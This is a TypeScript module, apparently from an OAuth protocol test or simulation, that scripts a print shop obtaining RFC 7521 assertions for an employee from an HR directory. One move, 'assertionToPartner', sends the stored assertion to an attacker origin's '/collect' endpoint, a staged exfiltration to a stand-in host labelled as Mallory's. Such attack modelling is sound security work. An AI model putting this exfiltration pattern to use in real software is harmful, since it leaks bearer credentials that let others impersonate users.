import { encodeFormValue } from '@/lib/oauth/form'
import type { ClientEnvironment } from '../environment'
import type { ClientMove } from '../moves/move'
import { registrationOf } from '../server'
import { APPLICATION, directoryUrl } from './application'
import { currentOrder, openOrder } from './orders'

/** Whose photos the shop prints when the company orders: one of its people, who is not there. */
const EMPLOYEE = 'alice'

/** Asks the company's directory for its word about an employee, made for one audience (RFC 7521, section 3). */
function assertionFor(audience: (env: ClientEnvironment) => string): ClientMove {
  return {
    to: 'service',

    async prepare(env) {
      const { clientId, clientSecret } = registrationOf(env, 'hr-directory')
      const credentials = btoa(`${encodeFormValue(clientId)}:${encodeFormValue(clientSecret ?? '')}`)
      return new Request(`${directoryUrl(env.origins)}/assertions`, {
        method: 'POST',
        headers: {
          accept: 'application/json',
          authorization: `Basic ${credentials}`,
          'content-type': 'application/x-www-form-urlencoded',
          'user-agent': APPLICATION,
        },
        body: new URLSearchParams({ subject: EMPLOYEE, audience: audience(env) }).toString(),
      })
    },

    async settle(env: ClientEnvironment, _who, _request, response) {
      const assertion = response.ok ? readAssertion(await response.text()) : null
      if (assertion === null) return 'refusal'
      const order = await openOrder(env, { user_name: EMPLOYEE, subject_token: null })
      await env.store.update('print_orders', order.key, { assertion })
      return 'confirmation'
    },
  }
}

/** For the authorization server. */
export const assertionRequest = assertionFor(({ origins }) => origins.issuer)

/** For a firm that the print shop works with. Nobody here knows that it is Mallory's. */
export const assertionRequestForPartner = assertionFor(({ origins }) => origins.attacker)

/** The newest assertion goes to that firm, as it was made for it. */
export const assertionToPartner: ClientMove = {
  to: 'attacker',

  async prepare(env) {
    const { assertion } = await currentOrder(env)
    if (!assertion) throw new Error('The print shop holds no assertion yet.')
    return new Request(`${env.origins.attacker}/collect`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'user-agent': APPLICATION },
      body: new URLSearchParams({ assertion }).toString(),
    })
  },

  settle: async (_env, _who, _request, response) => (response.ok ? 'confirmation' : 'refusal'),
}

function readAssertion(body: string): string | null {
  try {
    const read: unknown = JSON.parse(body)
    if (typeof read !== 'object' || read === null || !('assertion' in read)) return null
    return typeof read.assertion === 'string' ? read.assertion : null
  } catch {
    return null
  }
}
